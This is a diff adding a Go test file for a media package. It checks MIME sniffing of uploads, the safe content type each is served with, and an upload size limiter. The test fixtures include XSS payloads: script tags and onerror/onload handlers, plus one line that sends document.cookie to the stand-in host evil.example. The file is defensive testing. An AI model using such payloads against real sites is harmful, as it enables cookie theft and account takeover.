@@ -0,0 +1,141 @@
+package media
+
+import (
+	"bytes"
+	"errors"
+	"image/png"
+	"io"
+	"testing"
+	"testing/iotest"
+)
+
+// 이미지라고 속여 올린 스크립트 파일은 이미지로 받아들여지지도, 원래 타입으로 내려가지도 않아야 한다
+func TestSniffRejectsMislabeledScripts(t *testing.T) {
+	tests := []struct {
+		name string
+		data string
+	}{
+		{"html", "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"},
+		{"html without doctype", "<html><img src=x onerror=alert(1)></html>"},
+		{"svg", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`},
+		{"svg without prolog", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`},
+		{"javascript", "#!/usr/bin/env node\nfetch('/api/users').then(r => r.json())\n"},
+		{"plain javascript", "document.location = 'https://evil.example/?c=' + document.cookie;\n"},
+		{"xhtml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			mimeType, body, err := Sniff(bytes.NewReader([]byte(tt.data)))
+			if err != nil {
+				t.Fatalf("sniff: %v", err)
+			}
+			if all, _ := io.ReadAll(body); string(all) != tt.data {
+				t.Fatal("sniff did not return the full stream")
+			}
+
+			messageType, err := MessageTypeFor(mimeType)
+			if err == nil && messageType != "file" {
+				t.Fatalf("%s detected as %s was accepted as %s", tt.name, mimeType, messageType)
+			}
+			if got := SafeContentType(mimeType); got != "application/octet-stream" {
+				t.Fatalf("%s detected as %s would be served as %s", tt.name, mimeType, got)
+			}
+		})
+	}
+}
+
+func TestSniffDetectsRealImage(t *testing.T) {
+	var buf bytes.Buffer
+	if err := png.Encode(&buf, testImage(2, 2)); err != nil {
+		t.Fatal(err)
+	}
+	data := buf.Bytes()
+
+	mimeType, body, err := Sniff(bytes.NewReader(data))
+	if err != nil || mimeType != "image/png" {
+		t.Fatalf("sniff = %s, %v", mimeType, err)
+	}
+	if all, _ := io.ReadAll(body); !bytes.Equal(all, data) {
+		t.Fatal("sniff did not return the full stream")
+	}
+	if messageType, err := MessageTypeFor(mimeType); err != nil || messageType != "image" {
+		t.Fatalf("MessageTypeFor = %s, %v", messageType, err)
+	}
+}
+
+func TestSafeContentType(t *testing.T) {
+	tests := []struct {
+		mimeType string
+		want     string
+	}{
+		// 예전에 클라이언트 값 그대로 저장된 타입
+		{"text/html", "application/octet-stream"},
+		{"image/svg+xml", "application/octet-stream"},
+		{"application/xhtml+xml", "application/octet-stream"},
+		{"text/javascript", "application/octet-stream"},
+		{"application/javascript", "application/octet-stream"},
+		{"text/xml", "application/octet-stream"},
+		{"", "application/octet-stream"},
+		// 브라우저에서 바로 보여줄 미디어는 그대로 둔다
+		{"image/jpeg", "image/jpeg"},
+		{"image/png", "image/png"},
+		{"video/mp4", "video/mp4"},
+		{"audio/mpeg", "audio/mpeg"},
+	}
+	for _, mimeType := range AllowedTypes["file"] {
+		tests = append(tests, struct {
+			mimeType string
+			want     string
+		}{mimeType, "application/octet-stream"})
+	}
+
+	for _, tt := range tests {
+		if got := SafeContentType(tt.mimeType); got != tt.want {
+			t.Errorf("SafeContentType(%q) = %q, want %q", tt.mimeType, got, tt.want)
+		}
+	}
+}
+
+func TestLimitedReader(t *testing.T) {
+	const limit = 10
+
+	tests := []struct {
+		name     string
+		size     int
+		exceeded bool
+	}{
+		{"under limit", limit - 1, false},
+		{"exactly limit", limit, false},
+		{"limit plus one", limit + 1, true},
+		{"far over limit", 10 * limit, true},
+	}
+
+	for _, tt := range tests {
+		for _, oneByte := range []bool{false, true} {
+			var r io.Reader = bytes.NewReader(make([]byte, tt.size))
+			if oneByte {
+				r = iotest.OneByteReader(r)
+			}
+			l := &LimitedReader{R: r, Limit: limit}
+
+			data, err := io.ReadAll(l)
+			if tt.exceeded {
+				if !errors.Is(err, ErrTooLarge) || !l.Exceeded {
+					t.Errorf("%s (one byte %v): err = %v, exceeded = %v, want ErrTooLarge", tt.name, oneByte, err, l.Exceeded)
+				}
+				// 초과를 알아채는 데 필요한 1바이트보다 더 읽지 않는다
+				if len(data) != limit+1 {
+					t.Errorf("%s (one byte %v): read %d bytes, want %d", tt.name, oneByte, len(data), limit+1)
+				}
+				if _, err := l.Read(make([]byte, 1)); !errors.Is(err, ErrTooLarge) {
+					t.Errorf("%s (one byte %v): read after exceeding = %v, want ErrTooLarge", tt.name, oneByte, err)
+				}
+				continue
+			}
+			if err != nil || l.Exceeded || len(data) != tt.size {
+				t.Errorf("%s (one byte %v): read %d bytes, err = %v, exceeded = %v", tt.name, oneByte, len(data), err, l.Exceeded)
+			}
+		}
+	}
+}